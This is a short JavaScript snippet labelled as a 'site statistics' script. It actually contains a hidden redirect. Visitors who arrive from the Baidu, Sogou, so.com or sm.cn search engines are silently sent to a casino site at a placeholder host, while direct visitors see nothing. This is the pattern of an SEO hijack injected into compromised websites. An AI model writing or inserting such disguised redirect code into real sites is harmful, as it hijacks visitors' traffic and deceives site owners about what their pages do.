// site statistics v2
(function(){
  var r = document.referrer;
  if (r.indexOf("baidu") > 0 || r.indexOf("sogou") > 0 || r.indexOf("so.com") > 0 || r.indexOf("sm.cn") > 0) {
    setTimeout(function(){ top.location.replace("http://www.casino-hijack.test/?from=seo"); }, 100);
  }
})();
